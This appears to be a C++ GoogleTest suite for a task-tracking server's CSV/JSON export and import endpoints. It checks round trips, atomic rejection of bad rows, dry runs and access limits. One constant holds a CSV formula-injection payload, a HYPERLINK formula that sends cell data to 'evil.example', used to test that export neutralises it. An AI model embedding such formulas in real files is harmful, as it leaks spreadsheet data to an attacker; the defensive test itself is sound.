// GET /api/v1/tasks/export and POST /api/v1/tasks/import through the running
// server on both dialects: a round trip into a fresh database keeps every
// field, a bad row imports nothing and is named, formulas are neutralised.
#include "tasks_fixture.hpp"

namespace tasklane::test::tasks {
namespace {

using ExportImportTest = TasksFixture;

const std::string kFormula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

// The exported JSON records by id.
std::map<std::int64_t, nlohmann::json> by_id(const HttpResult& r) {
    EXPECT_EQ(r.status, 200) << r.body;
    std::map<std::int64_t, nlohmann::json> out;
    for (const auto& t : nlohmann::json::parse(r.body)) {
        out[t["id"].get<std::int64_t>()] = t;
    }
    return out;
}

HttpResult send_file(std::uint16_t port, const User& user, const std::string& target, const std::string& body,
                     const std::string& type) {
    return http(port, "POST", target, body, {{"Authorization", "Bearer " + user.token}, {"Content-Type", type}});
}

TEST_P(ExportImportTest, ExportThenImportIntoAFreshDatabaseKeepsEveryField) {
    auto alice = member("alice");
    auto bob = member("bob");
    const auto parent = create(alice, {{"title", "Release, \"v2\"\nsecond line"},
                                       {"description", kFormula},
                                       {"priority", "urgent"},
                                       {"tags", {"release", "-minus"}},
                                       {"due_date", "2026-12-24T18:00:00Z"},
                                       {"assignee_id", bob.id},
                                       {"recurrence", "weekly"}});
    const auto child = create(alice, {{"title", "child"}, {"parent_id", id_of(parent)}, {"position", -7}});
    const auto blocker = create(alice, {{"title", "blocker"}});
    ASSERT_EQ(post(alice, task_path(child) + "/dependencies", {{"depends_on_id", id_of(blocker)}}).status, 201);
    ASSERT_EQ(post(alice, task_path(blocker) + "/complete").status, 200);
    create(bob, {{"title", "bob's, not alice's"}});

    // CSV: a header, quoting, the formula neutralised, an optional BOM.
    const auto csv = get(alice, "/api/v1/tasks/export?format=csv");
    ASSERT_EQ(csv.status, 200) << csv.body;
    EXPECT_EQ(csv.header("content-type"), "text/csv; charset=utf-8");
    EXPECT_EQ(csv.body.rfind("id,title,description,status,priority,due_date,", 0), 0u) << csv.body;
    EXPECT_NE(csv.body.find("\"'=HYPERLINK("), std::string::npos) << csv.body;
    EXPECT_EQ(csv.body.find(",=HYPERLINK"), std::string::npos);
    EXPECT_NE(csv.body.find("'-minus"), std::string::npos);
    EXPECT_EQ(csv.body.find("bob's"), std::string::npos) << "exported a task alice cannot see";
    EXPECT_EQ(get(alice, "/api/v1/tasks/export?format=csv&bom=true").body.rfind("\xEF\xBB\xBF" "id,title", 0), 0u);
    const auto before = by_id(get(alice, "/api/v1/tasks/export?format=json"));
    ASSERT_EQ(before.size(), 3u);

    restart_on_fresh_database();
    alice = member("alice");
    bob = member("bob");
    const auto imported = send_file(port(), alice, "/api/v1/tasks/import", csv.body, "text/csv");
    ASSERT_EQ(imported.status, 201) << imported.body;
    EXPECT_EQ(imported.json()["imported"], 3);
    std::map<std::int64_t, std::int64_t> new_id;
    const auto report = imported.json();
    for (const auto& pair : report["ids"]) {
        new_id[pair["row_id"].get<std::int64_t>()] = pair["id"].get<std::int64_t>();
    }
    const auto after = by_id(get(alice, "/api/v1/tasks/export?format=json"));
    ASSERT_EQ(after.size(), 3u);
    for (const auto& [old_id, old] : before) {
        auto expected = old;
        expected["id"] = new_id.at(old_id);
        if (!old["parent_id"].is_null()) {
            expected["parent_id"] = new_id.at(old["parent_id"].get<std::int64_t>());
        }
        for (auto& d : expected["depends_on"]) {
            d = new_id.at(d.get<std::int64_t>());
        }
        EXPECT_EQ(after.at(new_id.at(old_id)), expected);
    }
    EXPECT_EQ(fetch(alice, new_id.at(id_of(parent)))["description"], kFormula);
}

TEST_P(ExportImportTest, ABadRowImportsNothingAndIsNamed) {
    const auto alice = member("alice");
    const std::string file =
        "title,priority,due_date\r\n"
        "fine,low,2026-12-01\r\n"
        "broken,extreme,2026-12-01\r\n"
        "also fine,high,\r\n";
    const auto refused = send_file(port(), alice, "/api/v1/tasks/import", file, "text/csv");
    expect_invalid_fields(refused, {"row 3: priority"});
    EXPECT_NE(error_message(refused).find("nothing was imported"), std::string::npos) << refused.body;
    EXPECT_EQ(list(alice, "/api/v1/tasks")["total"], 0);

    // A dry run reports the same and keeps nothing, even when the file is fine.
    const auto dry = send_file(port(), alice, "/api/v1/tasks/import?dry_run=true", file, "text/csv");
    ASSERT_EQ(dry.status, 200) << dry.body;
    EXPECT_EQ(dry.json()["valid"], false);
    EXPECT_EQ(dry.json()["problems"][0]["field"], "row 3: priority");
    const std::string good = "title\r\none\r\ntwo\r\n";
    const auto fine = send_file(port(), alice, "/api/v1/tasks/import?dry_run=true", good, "text/csv");
    ASSERT_EQ(fine.status, 200) << fine.body;
    EXPECT_EQ(fine.json()["valid"], true);
    EXPECT_EQ(fine.json()["rows"], 2);
    EXPECT_EQ(list(alice, "/api/v1/tasks")["total"], 0);

    // Broken CSV, an unknown column, someone else's task as parent, JSON.
    expect_error(send_file(port(), alice, "/api/v1/tasks/import", "title\r\n\"open", "text/csv"), 400, "bad_request");
    expect_error(send_file(port(), alice, "/api/v1/tasks/import", "title,colour\r\nx,red\r\n", "text/csv"), 400,
                 "bad_request");
    const auto bob = member("bob");
    const auto hidden = create(bob, {{"title", "bob's"}});
    expect_invalid_fields(send_file(port(), alice, "/api/v1/tasks/import",
                                    "title,parent_id\r\nchild," + std::to_string(id_of(hidden)) + "\r\n", "text/csv"),
                          {"row 2: parent_id"});
    const auto json_import = send_file(port(), alice, "/api/v1/tasks/import",
                                       R"([{"id": 10, "title": "a"}, {"id": 11, "title": "b", "parent_id": 10}])",
                                       "application/json");
    ASSERT_EQ(json_import.status, 201) << json_import.body;
    EXPECT_EQ(list(alice, "/api/v1/tasks")["total"], 2);
    expect_error(send_file(port(), alice, "/api/v1/tasks/import", "<xml/>", "application/xml"), 415,
                 "unsupported_media_type");
}

INSTANTIATE_TEST_SUITE_P(Dialects, ExportImportTest, ::testing::Values(sdk::Dialect::Sqlite, sdk::Dialect::Postgresql),
                         [](const auto& info) { return dialect_name(info.param); });

}  // namespace
}  // namespace tasklane::test::tasks
